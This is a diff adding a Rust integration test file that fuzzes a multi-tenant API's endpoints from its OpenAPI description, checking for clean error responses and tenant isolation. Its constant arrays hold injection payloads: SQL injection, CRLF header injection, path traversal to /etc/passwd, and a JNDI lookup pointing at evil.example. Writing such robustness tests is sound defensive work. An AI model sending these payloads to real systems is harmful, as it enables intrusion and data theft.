@@ -1,0 +1,396 @@
+//! What no endpoint takes. The cases are made from the served description, so that no endpoint can be left out:
+//! every answer is one that the description has, none is a 500, and where it is plain what was wrong it is named.
+
+use http::{HeaderValue, Method, Request, StatusCode, header};
+use serde_json::{Map, Value, json};
+
+use crate::support::{Answer, Tenant, TestApp, fixture};
+
+/// Texts that mean something elsewhere.
+const TEXTS: [&str; 7] = [
+    "x' OR '1'='1",
+    "'; DROP TABLE api_keys;--",
+    "a\0b",
+    "a\r\nX-Evil: yes",
+    "../../etc/passwd",
+    "\u{202e}☃\u{10ffff}",
+    "${jndi:ldap://evil.example}",
+];
+
+/// The same and others as they stand in a path or a query.
+const IN_PATHS: [&str; 8] = [
+    "none",
+    "x'%20OR%20'1'='1",
+    "%00",
+    "a%0d%0aX-Evil:%20yes",
+    "..%2f..%2fetc%2fpasswd",
+    "%ff",
+    "%E2%98%83",
+    "org_00000000000000000000000000000000",
+];
+
+/// One operation of the description.
+struct Operation<'a> {
+    document: &'a Value,
+    method: Method,
+    path: &'a str,
+    of: &'a Value,
+}
+
+impl<'a> Operation<'a> {
+    /// All that a key can call.
+    fn all(document: &'a Value) -> Vec<Self> {
+        let paths = document["paths"].as_object().unwrap().iter();
+        let operations = paths.flat_map(|(path, item)| {
+            item.as_object().unwrap().iter().map(move |(method, of)| {
+                let method = method.to_uppercase().parse().unwrap();
+                Operation { document, method, path, of }
+            })
+        });
+        operations.filter(|operation| operation.path.starts_with("/api/v1/")).collect()
+    }
+
+    fn parameters(&self, place: &str) -> Vec<&'a str> {
+        let all = self.of["parameters"].as_array().into_iter().flatten();
+        all.filter(|one| one["in"] == place).map(|one| one["name"].as_str().unwrap()).collect()
+    }
+
+    fn resolved(&self, schema: &'a Value) -> &'a Value {
+        match schema["$ref"].as_str() {
+            Some(name) => {
+                self.resolved(&self.document["components"]["schemas"][name.rsplit('/').next().unwrap()])
+            }
+            None => schema,
+        }
+    }
+
+    /// The members of the JSON body with their schemas, and the names of those that must be there; none where it
+    /// takes no JSON.
+    fn members(&self) -> Option<(Map<String, Value>, Vec<&'a str>)> {
+        let schema = self.resolved(self.of["requestBody"]["content"].get("application/json")?.get("schema")?);
+        let mut members = Map::new();
+        let mut required = Vec::new();
+        let parts = ["oneOf", "allOf"].into_iter().filter_map(|all| schema[all].as_array()).flatten();
+        for part in parts.map(|part| self.resolved(part)).chain([schema]) {
+            for (name, schema) in part["properties"].as_object().into_iter().flatten() {
+                members.insert(name.clone(), self.resolved(schema).clone());
+            }
+            required.extend(part["required"].as_array().into_iter().flatten().filter_map(Value::as_str));
+        }
+        Some((members, required))
+    }
+
+    /// The path with each parameter in its place.
+    fn at(&self, value: impl Fn(&str) -> String) -> String {
+        self.parameters("path")
+            .into_iter()
+            .fold(self.path.to_owned(), |path, name| path.replace(&format!("{{{name}}}"), &value(name)))
+    }
+
+    fn describes(&self, status: StatusCode) -> bool {
+        self.of["responses"].get(status.as_str()).is_some()
+    }
+}
+
+/// The host, and what the caller's requests may be about.
+struct Scene {
+    app: TestApp,
+    document: Value,
+    /// Made for each scene: requests may end it.
+    caller: Tenant,
+    /// Not the one that asks, or the first that is rotated ends it all.
+    key: String,
+    user: String,
+    workspace: String,
+}
+
+impl Scene {
+    async fn start() -> Self {
+        let toml = "[server]\nmax_json_body = \"12MB\"\n";
+        let app = TestApp::with(toml, &[("echo.wasm", fixture("echo"))]).await;
+        let document = app.get("/api/v1/openapi.json").await.expect(200);
+        let caller = app.tenant("Mine").await;
+        let (user, workspace) = belongings(&app, &caller).await;
+        let spare = app.post_as(&caller.key, "/api/v1/api_keys", &json!({})).await.expect(201);
+        let key = spare["id"].as_str().unwrap().to_owned();
+        Self { app, document, caller, key, user, workspace }
+    }
+
+    /// What stands in a path's place of an operation, so that the operation is about something that is there.
+    fn good(&self, path: &str, name: &str) -> String {
+        let found = match (name, path) {
+            ("org_id" | "org", _) => &self.caller.organization,
+            ("user_id", _) => &self.user,
+            ("id", path) if path.contains("/api_keys/") => &self.key,
+            ("id", path) if path.contains("/users/") => &self.user,
+            ("id", path) if path.contains("/workspaces/") => &self.workspace,
+            ("id", path) if path.contains("/plugins/") => "echo",
+            ("name", path) if path.contains("/tools/") => "echo",
+            _ => "none",
+        };
+        found.to_owned()
+    }
+
+    /// Sends it, as an operator where only they may, and fails unless the answer is one that is described.
+    async fn send(&self, operation: &Operation<'_>, path: &str, body: Option<Vec<u8>>) -> Answer {
+        let for_operators = operation.path.contains("/plugins");
+        let key = if for_operators { self.app.key() } else { &self.caller.key };
+        let mut request = Request::builder().method(operation.method.clone()).uri(path);
+        request = request.header(header::AUTHORIZATION, format!("Bearer {key}"));
+        if body.is_some() {
+            request = request.header(header::CONTENT_TYPE, "application/json");
+        }
+        let shown: String = body
+            .iter()
+            .flat_map(|body| String::from_utf8_lossy(body).chars().take(120).collect::<Vec<_>>())
+            .collect();
+        let answer = self.app.send(request.body(body.unwrap_or_default().into()).unwrap()).await;
+        let told: String = answer.text().chars().take(600).collect();
+        let what = format!("{} {path:.200} {shown}: {} {told}", operation.method, answer.status);
+        assert!(operation.describes(answer.status) && answer.status != 500, "{what}");
+        assert!(answer.headers.get("x-evil").is_none(), "{what}");
+        if !answer.status.is_success() {
+            assert!(answer.json()["error"].is_object() || answer.json()["error"].is_string(), "{what}");
+            assert!(answer.body.len() < 2_000, "{what}");
+        }
+        answer
+    }
+}
+
+/// A user and a workspace of a tenant.
+async fn belongings(app: &TestApp, tenant: &Tenant) -> (String, String) {
+    let user =
+        app.post_as(&tenant.key, "/api/v1/users", &json!({"email": "ann@example.com"})).await.expect(201);
+    let all = format!("/api/v1/orgs/{}/workspaces", tenant.organization);
+    let workspace = app.post_as(&tenant.key, &all, &json!({"name": "One"})).await.expect(201);
+    let id = |made: &Value| made["id"].as_str().unwrap().to_owned();
+    (id(&user), id(&workspace))
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn paths_and_queries() {
+    let scene = Scene::start().await;
+    let mut count = 0;
+    let long = "x".repeat(6_000);
+    for operation in Operation::all(&scene.document) {
+        for hostile in IN_PATHS.into_iter().chain([long.as_str()]) {
+            for place in operation.parameters("path") {
+                // Who puts something chooses its name, and these are good ones.
+                if operation.method == Method::PUT && place == "name" && !hostile.contains('%') {
+                    continue;
+                }
+                let path = operation.at(|name| match name == place {
+                    true => hostile.to_owned(),
+                    false => scene.good(operation.path, name),
+                });
+                let body = operation.members().map(|_| b"{}".to_vec());
+                let answer = scene.send(&operation, &path, body).await;
+                // An exception that there is not can be taken away.
+                let may = matches!((operation.method.as_str(), place), ("DELETE", "org"));
+                let refused = answer.status.is_client_error() || may;
+                assert!(refused, "{} {path}: {}", operation.method, answer.text());
+                count += 1;
+            }
+            if operation.method != Method::GET {
+                continue;
+            }
+            for name in operation.parameters("query") {
+                let path = operation.at(|name| scene.good(operation.path, name));
+                scene.send(&operation, &format!("{path}?{name}={hostile}"), None).await;
+                count += 1;
+            }
+        }
+    }
+    assert!(count > 400, "{count}");
+}
+
+/// Of each type one value.
+fn values() -> [(&'static str, Value); 5] {
+    [
+        ("boolean", json!(true)),
+        ("integer", json!(7)),
+        ("string", json!("x")),
+        ("array", json!([[[]]])),
+        ("object", json!({"x": {}})),
+    ]
+}
+
+/// Whether a schema takes a type. What it does not say it may take.
+fn takes(schema: &Value, kind: &str) -> bool {
+    let is = |one: &Value| one == kind || (one == "number" && kind == "integer");
+    match &schema["type"] {
+        Value::String(_) => is(&schema["type"]),
+        Value::Array(all) => all.iter().any(is),
+        _ => true,
+    }
+}
+
+fn bytes(members: &Map<String, Value>) -> Vec<u8> {
+    serde_json::to_vec(members).unwrap()
+}
+
+/// Fails unless the answer is a 400 that names the member, or what is in it.
+fn names(answer: &Answer, member: &str, what: &str) {
+    let error = answer.expect(400);
+    let field = error["error"]["details"]["field"].as_str().unwrap_or_default();
+    let rest = field.strip_prefix(member).unwrap_or_else(|| panic!("{what}: {error}"));
+    assert!(rest.is_empty() || rest.starts_with(['.', '[']), "{what}: {error}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn members_of_bodies() {
+    let scene = Scene::start().await;
+    let (mut count, mut operations) = (0, 0);
+    for operation in Operation::all(&scene.document) {
+        let Some((members, required)) = operation.members() else { continue };
+        operations += 1;
+        let path = operation.at(|name| scene.good(operation.path, name));
+        // What must be there is there, of the right type.
+        let sample = |name: &str| {
+            let fits = values().into_iter().find(|(kind, _)| takes(&members[name], kind));
+            fits.map_or(json!("x"), |(_, value)| value)
+        };
+        let base: Map<String, Value> =
+            required.iter().map(|name| ((*name).to_owned(), sample(name))).collect();
+        let with = |name: &str, value: Value| {
+            let mut body = base.clone();
+            body.insert(name.to_owned(), value);
+            bytes(&body)
+        };
+        for missing in &required {
+            let mut body = base.clone();
+            body.remove(*missing);
+            let answer = scene.send(&operation, &path, Some(bytes(&body))).await;
+            // Another that must be there may be what is told.
+            let field =
+                answer.expect(400)["error"]["details"]["field"].as_str().unwrap_or_default().to_owned();
+            assert!(
+                required.iter().any(|name| field.starts_with(name)),
+                "{path} {missing}: {}",
+                answer.text()
+            );
+            count += 1;
+        }
+        for (name, schema) in &members {
+            for (kind, value) in values() {
+                let answer = scene.send(&operation, &path, Some(with(name, value))).await;
+                // Only where nothing else is wrong with it.
+                if !takes(schema, kind) && required.len() <= 1 {
+                    names(&answer, name, &format!("{path} {name}: {kind}"));
+                }
+                count += 1;
+            }
+            if !schema["enum"].is_null() {
+                names(
+                    &scene.send(&operation, &path, Some(with(name, json!("none of them")))).await,
+                    name,
+                    &path,
+                );
+            }
+            for text in TEXTS {
+                scene.send(&operation, &path, Some(with(name, json!(text)))).await;
+                count += 1;
+            }
+            scene.send(&operation, &path, Some(with(name, json!("x".repeat(100_000))))).await;
+            scene.send(&operation, &path, Some(with(name, json!(1e300)))).await;
+            scene.send(&operation, &path, Some(with(name, json!(i64::MIN)))).await;
+        }
+        for whole in ["", "null", "[]", "7", "{", "\"x\"", "{\"a\":", "\u{feff}{}", "{} {}"] {
+            scene.send(&operation, &path, Some(whole.into())).await;
+        }
+        scene.send(&operation, &path, Some(vec![0xff, 0xfe, 0x00])).await;
+    }
+    assert!(operations > 12 && count > 500, "{operations} {count}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn ten_megabytes_of_nesting() {
+    let scene = Scene::start().await;
+    for operation in Operation::all(&scene.document) {
+        let Some((members, _)) = operation.members() else { continue };
+        let path = operation.at(|name| scene.good(operation.path, name));
+        let name = members.keys().next().map_or("arguments", String::as_str);
+        let nested = format!("{{\"{name}\":{}1{}}}", "[".repeat(5_000_000), "]".repeat(5_000_000));
+        let answer = scene.send(&operation, &path, Some(nested.into())).await;
+        assert_eq!(answer.status, 400, "{path}: {}", answer.text());
+        let wide = format!("{{\"{name}\":\"{}\"}}", "x".repeat(13_000_000));
+        let answer = scene.send(&operation, &path, Some(wide.into())).await;
+        assert_eq!(answer.status, 413, "{path}: {}", answer.text());
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn bodies_of_another_kind() {
+    let scene = Scene::start().await;
+    for operation in Operation::all(&scene.document) {
+        if operation.members().is_none() {
+            continue;
+        }
+        let path = operation.at(|name| scene.good(operation.path, name));
+        for kind in
+            ["text/plain", "application/x-www-form-urlencoded", "application/jso", "multipart/form-data"]
+        {
+            let mut request = scene.app.request(operation.method.clone(), &path, Some(&json!({})));
+            request.headers_mut().insert(header::CONTENT_TYPE, HeaderValue::from_static(kind));
+            let answer = scene.app.send(request).await;
+            assert!(operation.describes(answer.status), "{path} {kind}: {} {}", answer.status, answer.text());
+            assert!(answer.status.as_u16() < 500, "{path} {kind}: {}", answer.text());
+        }
+    }
+}
+
+/// Whose the things are that stand in paths; what is not here is nobody's, or everybody's.
+const EVERYBODYS: [&str; 5] = ["/models/", "/tools/", "/plugins/", "/audit-logs/", "/openapi.json"];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_another_tenants_is_as_if_it_never_was() {
+    let scene = Scene::start().await;
+    let theirs = scene.app.tenant("Theirs").await;
+    let (user, workspace) = belongings(&scene.app, &theirs).await;
+    let mut count = 0;
+    for operation in Operation::all(&scene.document) {
+        let path = operation.path.strip_prefix("/api/v1").unwrap();
+        if EVERYBODYS.iter().any(|shared| path.starts_with(shared)) {
+            continue;
+        }
+        for place in operation.parameters("path") {
+            let (their_id, prefix) = match (place, path) {
+                ("org_id", _) => (&theirs.organization, "org"),
+                ("user_id", _) => (&user, "user"),
+                ("id", path) if path.starts_with("/api_keys/") => (&theirs.key_id, "key"),
+                ("id", path) if path.starts_with("/users/") => (&user, "user"),
+                ("id", path) if path.contains("/workspaces/") => (&workspace, "ws"),
+                _ => panic!("say here whose {{{place}}} is in {path}, and what is another tenant's"),
+            };
+            let never = format!("{prefix}_{}", "0".repeat(32));
+            let mut told = Vec::new();
+            for id in [their_id, &never] {
+                let path = operation.at(|name| match name == place {
+                    true => id.clone(),
+                    false => scene.good(operation.path, name),
+                });
+                let (members, required) = operation.members().unwrap_or_default();
+                let body = required.iter().map(|name| match members[*name]["type"].as_str() {
+                    _ if *name == "role" => ((*name).to_owned(), json!("member")),
+                    Some("string") => ((*name).to_owned(), json!("x")),
+                    _ => ((*name).to_owned(), Value::Null),
+                });
+                let body = operation.members().map(|_| bytes(&body.collect()));
+                let answer = scene.send(&operation, &path, body).await;
+                assert_eq!(answer.status, 404, "{} {path}: {}", operation.method, answer.text());
+                told.push(answer.text().replace(id.as_str(), "…"));
+                count += 1;
+            }
+            assert_eq!(told[0], told[1], "{} {path}", operation.method);
+        }
+    }
+    assert!(count >= 40, "{count}");
+    // And all of it is still there.
+    for path in [
+        format!("/api/v1/api_keys/{}", theirs.key_id),
+        format!("/api/v1/users/{user}"),
+        format!("/api/v1/orgs/{}/workspaces/{workspace}", theirs.organization),
+    ] {
+        scene.app.get_as(&theirs.key, &path).await.expect(200);
+    }
+}
